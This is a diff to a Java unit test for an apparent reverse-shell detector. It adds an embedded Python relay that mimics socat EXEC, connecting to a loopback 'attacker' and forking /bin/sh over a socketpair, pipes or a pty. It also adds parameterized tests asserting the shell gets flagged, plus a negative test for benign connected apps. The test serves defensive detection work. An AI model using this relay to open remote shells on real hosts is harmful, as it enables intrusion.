@@ -16,6 +16,8 @@ import java.util.List;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 
 /**
  * Schema 20: the reverse shell whose socket never touches the shell. A relay (nc, openssl s_client; here a few lines of
@@ -41,6 +43,42 @@ class RelayedReverseShellTest {
             + "    if not d: break\n"
             + "    os.write(1,d)\n";
 
+    /**
+     * socat TCP:127.0.0.1:PORT EXEC:PROGRAM[,pipes|,pty] in a few lines: connects to argv[1], forks argv[3:] on a
+     * socketpair ({@code sp}), two pipes ({@code pipes}) or a pty ({@code pty}), and relays until either side ends.
+     */
+    private static final String RELAY_EXEC = "import os,socket,sys,select,pty\n"
+            + "s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n"
+            + "mode,prog=sys.argv[2],sys.argv[3:]\n"
+            + "if mode=='pty':\n"
+            + "    pid,fd=pty.fork()\n"
+            + "    if pid==0: os.execv(prog[0],prog)\n"
+            + "    rd=wr=fd\n"
+            + "elif mode=='pipes':\n"
+            + "    r0,w0=os.pipe(); r1,w1=os.pipe(); pid=os.fork()\n"
+            + "    if pid==0:\n"
+            + "        os.dup2(r0,0); os.dup2(w1,1); os.dup2(w1,2); os.execv(prog[0],prog)\n"
+            + "    os.close(r0); os.close(w1); rd,wr=r1,w0\n"
+            + "else:\n"
+            + "    a,b=socket.socketpair(); pid=os.fork()\n"
+            + "    if pid==0:\n"
+            + "        os.dup2(b.fileno(),0); os.dup2(b.fileno(),1); os.dup2(b.fileno(),2); os.execv(prog[0],prog)\n"
+            + "    b.close(); rd=wr=a.fileno()\n"
+            + "open_=True\n"
+            + "while True:\n"
+            + "    r,_,_=select.select([s,rd] if open_ else [rd],[],[],5)\n"
+            + "    if not r: break\n"
+            + "    if s in r:\n"
+            + "        d=s.recv(4096)\n"
+            + "        if d: os.write(wr,d)\n"
+            + "        else: open_=False\n"
+            + "    if rd in r:\n"
+            + "        try: d=os.read(rd,4096)\n"
+            + "        except OSError: break\n"
+            + "        if not d: break\n"
+            + "        s.sendall(d)\n"
+            + "os.waitpid(pid,0)\n";
+
     private final BehaviourFeatures features = new BehaviourFeatures();
 
     @TempDir
@@ -55,6 +93,7 @@ class RelayedReverseShellTest {
     /** Runs {@code sh -c SCRIPT} under strace while an attacker on loopback sends two commands and an exit. */
     private List<ProcessRecord> traceWithAttacker(String script) throws Exception {
         Files.writeString(dir.resolve("relay.py"), RELAY);
+        Files.writeString(dir.resolve("relay_exec.py"), RELAY_EXEC);
         try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
             Thread attacker = new Thread(() -> {
                 try (Socket s = listener.accept()) {
@@ -130,5 +169,39 @@ class RelayedReverseShellTest {
 
         assertThat(ps).as("the sibling relay").anySatisfy(p -> assertThat(p.features().get("net.connect_inet")).isEqualTo(1f));
         assertThat(interactiveShell(ps).features().get("ind.reverse_shell")).isZero();
+    }
+
+    @ParameterizedTest(name = "socat EXEC:{1},{0}")
+    @CsvSource({"sp, /bin/sh", "pipes, /bin/sh", "pty, /bin/sh -i"})
+    void aShellThatAConnectedRelayForksIsAReverseShell(String mode, String shell) throws Exception {
+        // Schema 21: socat TCP:HOST:PORT EXEC:/bin/sh (a socketpair), ...,pipes, EXEC:'sh -i',pty; the shell never sees
+        // the socket, its parent holds it
+        List<ProcessRecord> ps = traceWithAttacker("/usr/bin/python3 relay_exec.py PORT " + mode + " " + shell);
+
+        ProcessRecord sh = ps.stream().filter(p -> p.argv().equals(List.of(shell.split(" ")))).findFirst().orElseThrow();
+        assertThat(ps).as("the attacker's commands ran").anySatisfy(p -> {
+            assertThat(p.ppid()).isEqualTo(sh.pid());
+            assertThat(p.argv()).containsExactly("id");
+        });
+        assertThat(sh.features().get("net.connect_inet")).as("the shell itself never connects").isZero();
+        assertThat(sh.features().get("ind.reverse_shell")).isEqualTo(1f);
+    }
+
+    @Test
+    void aConnectedProcessRunningShellCommandsOrScriptsHasNoReverseShell() throws Exception {
+        // an application that went online and then runs sh -c, a script, or a shell reading /dev/null
+        Files.writeString(dir.resolve("job.sh"), "echo job\n");
+        String app = "import socket,subprocess,sys\n"
+                + "s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n"
+                + "subprocess.run(['/bin/sh','-c','echo done'])\n"
+                + "subprocess.run(['/bin/sh','job.sh'])\n"
+                + "subprocess.run(['/bin/sh'],stdin=subprocess.DEVNULL)\n";
+        Files.writeString(dir.resolve("app.py"), app);
+        List<ProcessRecord> ps = traceWithAttacker("/usr/bin/python3 app.py PORT > out.txt");
+
+        assertThat(Files.readString(dir.resolve("out.txt"))).isEqualTo("done\njob\n");
+        ProcessRecord appProcess = ps.stream().filter(p -> p.argv().contains("app.py")).findFirst().orElseThrow();
+        assertThat(ps.stream().filter(p -> p.ppid() == appProcess.pid()).toList()).hasSize(3)
+                .allSatisfy(p -> assertThat(p.features().get("ind.reverse_shell")).as("%s", p.argv()).isZero());
     }
 }
